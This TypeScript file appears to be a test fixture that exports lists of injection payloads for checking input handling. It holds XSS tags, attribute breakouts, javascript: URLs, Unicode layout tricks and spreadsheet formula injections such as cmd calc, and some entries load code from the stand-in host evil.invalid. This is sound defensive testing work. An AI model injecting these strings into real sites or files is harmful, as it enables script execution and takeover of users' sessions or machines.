/** What people try to smuggle into text. Each would set `window.injected`, open a dialog or break out of its place if it ran. */
const RUN = 'window.injected=1';

const TAGS = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src=//evil.invalid/x.js></script>`,
  `<script\x20type="text/javascript">${RUN};</script>`,
  `<script/x>${RUN}</script>`,
  `<<script>${RUN}//<</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script>${RUN}`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}">`,
  `<img/src/onerror=${RUN}>`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a>`,
  `<svg><set onbegin=${RUN} attributename=x>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${RUN}>">`,
  `<math href="javascript:${RUN}">x</math>`,
  `<body onload=${RUN}>`,
  `<body onpageshow=${RUN}>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.injected=1</script>">`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<video poster=x onloadstart=${RUN} src=x>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}>`,
  `<button autofocus onfocus=${RUN}>x`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<style>@import'//evil.invalid/x.css';</style>`,
  `<style>*{display:none!important}</style>`,
  `<link rel=stylesheet href=//evil.invalid/x.css>`,
  `<base href="//evil.invalid/">`,
  `<meta http-equiv=refresh content="0;url=//evil.invalid">`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<isindex action=javascript:${RUN} type=image>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<x onclick=${RUN} style=position:fixed;inset:0>x`,
  `<dialog open onclose=${RUN}>x`,
];
const BREAKOUTS = [
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `" onmouseover="${RUN}`,
  `' onfocus='${RUN}' autofocus='`,
  `\`-${RUN}-\``,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\\";${RUN};//`,
  `';${RUN};//`,
  `<!--<script>${RUN}</script>`,
  `</application/json></script><img src=x onerror=${RUN}>`,
];
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `data:text/html,<script>parent.injected=1</script>`,
  `vbscript:msgbox(1)`,
  `http://a.invalid/"onmouseover="${RUN}`,
  `https://a.invalid/'><img src=x onerror=${RUN}>`,
  `[x](javascript:${RUN})`,
  `//evil.invalid/%0d%0aX: y`,
];
/** What pushes a page wide or turns its order around. */
const LAYOUT = [
  `\u202Egnp.exe\u202C backwards`,
  `${'\u200B'.repeat(300)}zero width`,
  `a${'\u0301'.repeat(200)}`,
  `${'W'.repeat(400)}`,
  `${'😀'.repeat(40)}`,
  `العربية ${RUN} עברית`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}`,
  `\uFF1Cscript\uFF1E${RUN}\uFF1C/script\uFF1E`,
  `+ADw-script+AD4-${RUN}`,
];

/** What a spreadsheet would run. */
const FORMULAS = [
  `=HYPERLINK("//evil.invalid","x")`,
  `=cmd|' /C calc'!A0`,
  `+1+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `"=1+1";"@x",\n=1+1`,
];

/** Those that depend on their position: first in a cell or an address. The others work anywhere. */
const STORED = [...ADDRESSES, ...LAYOUT, ...FORMULAS];
/** The first of each kind; the others are in composites, except those that only affect the layout. */
export const STORED_SAMPLE: readonly string[] = [ADDRESSES, LAYOUT, FORMULAS].flatMap((kind) =>
  kind.slice(0, 1),
);

export const INJECTIONS: readonly string[] = [...TAGS, ...BREAKOUTS, ...STORED];

/** A field that takes a whole text takes this many characters at least. */
const LONGEST = 480;

/** All that could run, many in one value: each string is in one of them, kinds mixed. */
export const COMPOSITES: readonly string[] = compose([...TAGS, ...BREAKOUTS, ...ADDRESSES, ...FORMULAS]);

function compose(texts: string[]): string[] {
  const composites = Array.from({ length: Math.ceil(texts.join(' ').length / LONGEST) + 2 }, () => '');
  for (const text of texts) {
    const shortest = composites.toSorted((one, other) => one.length - other.length)[0] ?? '';
    composites[composites.indexOf(shortest)] = `${shortest} ${text}`.trim();
  }
  if (composites.some((text) => text.length > LONGEST)) throw new Error('A value is longer than its field.');
  return composites;
}
